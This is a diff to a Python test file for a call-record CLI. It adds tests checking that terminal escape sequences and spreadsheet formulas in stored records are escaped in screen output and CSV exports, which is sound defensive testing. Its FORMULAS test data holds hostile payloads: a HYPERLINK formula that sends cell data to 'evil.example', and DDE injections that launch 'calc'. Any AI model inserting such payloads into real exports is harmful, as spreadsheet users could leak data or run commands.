@@ -11,6 +11,7 @@ import csv
 import io
 import json
 import os
+import re
 import subprocess
 import sys
 import threading
@@ -508,6 +509,109 @@ def test_show_delivered_and_failed_webhooks(
     assert "delivered at 2024-05-06 12:01:00+02:00 after 1 failed attempt(s)" in out
 
 
+# ------------------------------------------------------------------ hostile text
+
+
+# What a terminal would obey: clear the screen, retitle the window, ring, CSI in 8 bits,
+# show the rest of the line reversed.
+ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e"
+RAW_CONTROLS = re.compile(
+    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
+)
+
+
+def hostile_call() -> CallRecord:
+    """A call whose every text field carries terminal control sequences."""
+    record = call_a()
+    record.record_id = "rec-h"
+    record.call_id = "SCL_h" + ESCAPES
+    record.agent_name = "agent" + ESCAPES
+    record.job_metadata = '{"name": "' + ESCAPES + '"}'
+    record.error = "boom" + ESCAPES
+    record.transcript = [
+        Turn("user", "first line\nsecond" + ESCAPES, record.started_at + 3),
+        Turn("assistant", "\rOK" + ESCAPES, record.started_at + 4),
+    ]
+    record.tool_calls = [
+        ToolCallRecord(
+            "lookup" + ESCAPES,
+            '{"x": "' + ESCAPES + '"}',
+            "out" + ESCAPES,
+            False,
+            record.started_at + 5,
+        )
+    ]
+    return record
+
+
+def test_show_and_list_print_control_sequences_as_visible_escapes(
+    database: str, record_store: CallStore, capsys: pytest.CaptureFixture[str]
+) -> None:
+    record_store.save(hostile_call(), queue_webhook=True)
+    record_store.mark_delivery_failed("rec-h", error="HTTP 500" + ESCAPES, retry_at=None)
+
+    shown = run(capsys, "show", "rec-h")
+    listed = run(capsys, "list")
+
+    for result in (shown, listed):
+        assert result.code == 0, result.err
+        assert not RAW_CONTROLS.findall(result.out)
+    visible = "\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\u202e"
+    for expected in (
+        f"Call SCL_h{visible}",
+        f"agent agent{visible}",
+        f"error boom{visible}",
+        f"last error: HTTP 500{visible}",
+        f"0:05 lookup{visible}",
+        f"output: out{visible}",
+        "0:03 user first line",  # line breaks in a turn keep the layout
+        f"second{visible}",
+        f"0:04 assistant \\x0dOK{visible}",
+    ):
+        assert expected in shown.lines, f"{expected!r} not in:\n{shown.out}"
+    assert f"SCL_h{visible}" in listed.out
+
+
+def test_json_output_escapes_what_json_dumps_leaves_raw(
+    database: str, record_store: CallStore, capsys: pytest.CaptureFixture[str]
+) -> None:
+    record_store.save(hostile_call())
+
+    outputs = [
+        run(capsys, "show", "rec-h", "--json").out,
+        run(capsys, "list", "--json").out,
+        run(capsys, "export", "--format", "jsonl").out,
+    ]
+
+    for out in outputs:
+        assert not RAW_CONTROLS.findall(out)
+        assert "\\u202e" in out and "\\u009b" in out
+    (listed,) = json.loads(outputs[1])
+    for data in (json.loads(outputs[0]), listed, json.loads(outputs[2])):
+        assert CallRecord.from_dict(data) == hostile_call()  # the same data, escaped
+
+
+def test_export_csv_on_a_terminal_escapes_controls_and_a_file_keeps_them(
+    database: str,
+    record_store: CallStore,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+    tmp_path: Path,
+) -> None:
+    record_store.save(hostile_call())
+    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
+
+    on_screen = run(capsys, "export", "--format", "csv")
+    run(capsys, "export", "--format", "csv", "--output", str(tmp_path / "calls.csv"))
+
+    assert not RAW_CONTROLS.findall(on_screen.out.replace("\r\n", "\n"))
+    (row,) = csv.DictReader(io.StringIO(on_screen.out))
+    assert row["call_id"] == "SCL_h\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\u202e"
+    with (tmp_path / "calls.csv").open(encoding="utf-8", newline="") as f:
+        (row,) = csv.DictReader(f)
+    assert row["call_id"] == "SCL_h" + ESCAPES  # the file has the data as it is
+
+
 # ------------------------------------------------------------------ export
 
 
@@ -526,8 +630,8 @@ def test_export_csv_one_row_per_call(
         "job_id": "AJ_a",
         "room": "call-_+15105550101_a1",
         "direction": "inbound",
-        "remote_number": "+15105550101",
-        "local_number": "+17075550000",
+        "remote_number": "'+15105550101",  # text in a spreadsheet, not 1.51E+10
+        "local_number": "'+17075550000",
         "trunk_id": "ST_in",
         "agent_name": "acme-agent",
         "started_at": "2024-05-01T07:30:00.000Z",
@@ -553,6 +657,42 @@ def test_export_csv_one_row_per_call(
     assert (b["answered_at"], b["talk_seconds"], b["sip_status_code"]) == ("", "", "480")
     assert (b["llm_ttft_p50_ms"], b["e2e_p50_ms"]) == ("", "")
     assert datetime.fromisoformat(a["started_at"]).timestamp() == call_a().started_at
+
+
+FORMULAS = {
+    "call_id": '=HYPERLINK("https://evil.example/?"&A1,"open")',
+    "room": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "trunk_id": "-2+3+cmd|' /C calc'!A0",
+    "agent_name": "\t=1+1",
+    "sip_status": "\r=1+1",
+    "error": "  =1+1",  # blanks first: some programs trim them
+}
+
+
+def starts_a_formula(cell: str) -> bool:
+    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")
+
+
+def test_export_csv_cells_a_spreadsheet_would_evaluate_stay_text(
+    database: str, record_store: CallStore, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # A `;` splitting spreadsheet would start a cell after the `;`, unless it is quoted.
+    inner = {"transfer_to": "sip:x;=1+1", "record_id": "rec-x"}
+    hostile = CallRecord(**{**call_b().__dict__, **FORMULAS, **inner})
+    record_store.save(hostile)
+
+    result = run(capsys, "export", "--format", "csv")
+
+    assert result.code == 0, result.err
+    (row,) = csv.DictReader(io.StringIO(result.out))
+    for column, payload in FORMULAS.items():
+        assert row[column] == "'" + payload  # the value, marked as text
+    assert row["transfer_to"] == "sip:x;=1+1"
+    assert row["remote_number"] == "'+15105550102"
+    assert (row["duration_seconds"], row["sip_status_code"]) == ("30.0", "480")  # numbers
+    cells = [cell for line in csv.reader(io.StringIO(result.out)) for cell in line]
+    assert not [cell for cell in cells if starts_a_formula(cell)]
+    assert '"sip:x;=1+1"' in result.out  # quoted: a `;` cannot split it
 
 
 def test_export_jsonl_round_trips(
@@ -801,6 +941,7 @@ def test_deliver_without_a_webhook_url(database: str, capsys: pytest.CaptureFixt
 class FakeReport:
     delivered: int
     failed: int
+    gone: int = 0
 
 
 def test_deliver_retries_queued_deliveries(
@@ -942,7 +1083,9 @@ def test_deliver_with_the_real_webhook_module(
     result = run(capsys, "deliver")
     assert (result.code, result.out.strip()) == (0, "delivered 1, failed 0"), result.err
     ((headers, body),) = receiver.posts
-    assert webhook.verify(body, secret, headers["X-Call-Record-Signature"])
+    assert webhook.verify(
+        body, secret, headers["X-Call-Record-Signature"], headers["X-Call-Record-Id"]
+    )
     assert CallRecord.from_dict(json.loads(body)) == call_a()
     assert record_store.delivery_state("rec-a").status == "delivered"
 
@@ -960,6 +1103,31 @@ def test_deliver_with_the_real_webhook_module(
     result = run(capsys, "deliver")
     assert (result.code, result.out.strip()) == (0, "delivered 1, failed 0"), result.err
     assert record_store.delivery_state("rec-c").status == "delivered"
+
+
+def test_deliver_stops_a_record_the_receiver_says_is_gone(
+    calls: list[CallRecord],
+    record_store: CallStore,
+    receiver: Receiver,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("CALL_WEBHOOK_URL", receiver.url)
+    monkeypatch.setenv("CALL_WEBHOOK_SECRET", "s" * 32)
+    receiver.status = 410
+
+    result = run(capsys, "deliver")
+
+    assert (result.code, result.out.strip()) == (1, "delivered 0, failed 0, refused (410 Gone) 1")
+    assert "never sent again" in result.err
+    assert len(receiver.posts) == 1
+    receiver.status = 200
+    result = run(capsys, "deliver")
+    assert result.out.strip() == "nothing to deliver: no queued webhook delivery is due"
+    assert len(receiver.posts) == 1
+    lines = run(capsys, "show", "rec-a").lines
+    assert "stopped: the receiver refused it for good after 1 attempt(s); never sent again" in lines
+    assert "reason: HTTP 410 Gone" in lines
 
 
 # ------------------------------------------------------------------ the real entry point
